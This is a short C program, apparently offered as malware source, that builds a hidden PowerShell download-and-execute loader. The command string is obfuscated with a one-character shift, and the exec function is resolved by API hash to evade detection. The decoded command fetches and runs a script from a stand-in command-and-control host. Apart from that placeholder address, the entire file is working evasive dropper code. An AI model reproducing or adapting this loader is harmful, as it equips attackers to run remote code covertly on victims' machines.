/* Starts PowerShell hidden, with functions found by hash only. The address cannot exist. */
#include "by_hash.h"
typedef UINT(WINAPI *Exec)(LPCSTR, UINT);
int main(void) {
    static char line[] = "qpxfstifmm!.x!ijeefo!.d!jfy!)Ofx.Pckfdu!Ofu/XfcDmjfou*/EpxompbeTusjoh)(iuuq;00d3/fybnqmf/jowbmje0b(*";
    for (char *at = line; *at; at++) --*at;
    Exec exec = (Exec)by_hash(0x29a65678u);
    if (exec) exec(line, SW_HIDE);
    return 0;
}
